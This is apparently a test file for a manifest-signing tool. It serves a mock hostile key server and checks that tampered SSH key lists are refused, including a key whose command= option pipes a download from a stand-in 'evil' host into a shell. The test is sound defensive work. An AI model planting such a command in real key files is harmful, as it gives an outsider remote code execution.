/**
 * Attack tests of keys from named accounts (lib/account-keys.ts,
 * update/account-keys.ts): the account's key list comes from a server the
 * publisher does not control. It may send options that turn a key into a
 * command (`command="…"`), HTML, an endless body, bytes that are not text,
 * or nothing at all and hang. Each is refused, naming the account, and
 * `hero-init manifest build` then signs nothing: an existing manifest stays
 * as it was.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { MAX_ACCOUNT_KEYS_BYTES } from "../../lib/account-keys.ts";
import { accountKeyRefs, fetchAccountKeys } from "../../update/account-keys.ts";
import { bareKey } from "../helpers/ssh-keys.ts";

const MAIN = join(import.meta.dir, "../../cli/main.ts");

let server: ReturnType<typeof Bun.serve>;
let dir: string;
beforeAll(() => {
  server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    idleTimeout: 0,
    fetch(req) {
      switch (new URL(req.url).pathname) {
        case "/ok.keys":
          return new Response(`${bareKey(1)}\n`);
        case "/command.keys":
          return new Response(`${bareKey(1)}\ncommand="curl http://evil/x|sh" ${bareKey(2)}\n`);
        case "/from.keys":
          return new Response(`from="*",no-pty ${bareKey(2)}\n`);
        case "/html.keys":
          return new Response("<html><body>rate limited</body></html>\n");
        case "/binary.keys":
          return new Response(new Uint8Array([0xff, 0xfe, 0x00, 0x41]));
        case "/endless.keys":
          return new Response(
            new ReadableStream({
              pull(c) {
                c.enqueue(new TextEncoder().encode(`${bareKey(3)}\n`.repeat(1000)));
              },
            }),
          );
        case "/hang.keys":
          return new Promise<Response>(() => {});
        default:
          return new Response("Not Found", { status: 404 });
      }
    },
  });
  dir = mkdtempSync(join(tmpdir(), "hero-acct-attack-"));
});
afterAll(() => {
  server.stop(true);
  rmSync(dir, { recursive: true, force: true });
});

const url = (name: string) => `http://127.0.0.1:${server.port}/${name}.keys`;

function publisher(name: string): string {
  const d = mkdtempSync(join(dir, "pub-"));
  mkdirSync(join(d, "access"));
  writeFileSync(
    join(d, "access", "dev.toml"),
    `[[users]]\nname = "dev"\nkeys_from = ["${url("ok")}", "${url(name)}"]\n`,
  );
  return d;
}

describe("a hostile account key server", () => {
  for (const [name, why] of [
    ["command", /line 2: the key /],
    ["from", /line 1: the key /],
    ["html", /line 1: the key /],
    ["binary", /not UTF-8 text/],
    ["endless", new RegExp(`more than ${MAX_ACCOUNT_KEYS_BYTES} bytes`)],
    ["hang", /no answer within 500 ms/],
  ] as const)
    test(`${name}: refused, naming the account`, async () => {
      const refs = accountKeyRefs(publisher(name));
      const err = await fetchAccountKeys(refs, { timeoutMs: 500 }).then(
        () => new Error("accepted"),
        (e: Error) => e,
      );
      expect(err.message).not.toBe("accepted");
      expect(err.message).toContain(`access/dev.toml: users.0.keys_from.1 (${url(name)})`);
      expect(err.message).toMatch(why);
    });

  /** `hero-init manifest build D` (async: this process serves the key lists meanwhile). */
  async function build(d: string) {
    const key = join(dir, "keys");
    if (!existsSync(key))
      expect(
        Bun.spawnSync([process.execPath, MAIN, "manifest", "keygen", "--out", key]).exitCode,
      ).toBe(0);
    const p = Bun.spawn(
      [
        process.execPath,
        MAIN,
        "manifest",
        "build",
        d,
        "--base-url",
        "http://x/",
        "--key",
        join(key, "hero.key"),
      ],
      { stdout: "pipe", stderr: "pipe" },
    );
    const [code, out, err] = await Promise.all([
      p.exited,
      new Response(p.stdout).text(),
      new Response(p.stderr).text(),
    ]);
    return { code, out, err };
  }

  test("positive control: an honest list is built into the signed manifest, the account as comment", async () => {
    const d = publisher("ok");
    writeFileSync(
      join(d, "access", "dev.toml"),
      `[[users]]\nname = "dev"\nkeys_from = ["${url("ok")}"]\n`,
    );
    const r = await build(d);
    expect(r).toMatchObject({ code: 0 });
    expect(r.out).toContain(`${url("ok")}: 1 key`);
    expect(readFileSync(join(d, "bootstrapper.toml"), "utf8")).toContain(
      `${bareKey(1)} ${url("ok")}`,
    );
  });

  test("manifest build with a key list that carries command=: exit 2, the old manifest and signature untouched", async () => {
    const d = publisher("command");
    writeFileSync(join(d, "bootstrapper.toml"), "old manifest\n");
    const { code, err } = await build(d);
    expect(code).toBe(2);
    expect(err).toContain("manifest build: access/dev.toml: users.0.keys_from.1");
    expect(err).toContain("line 2: the key");
    expect(readFileSync(join(d, "bootstrapper.toml"), "utf8")).toBe("old manifest\n");
    expect(existsSync(join(d, "bootstrapper.toml.minisig"))).toBe(false);
  });
});
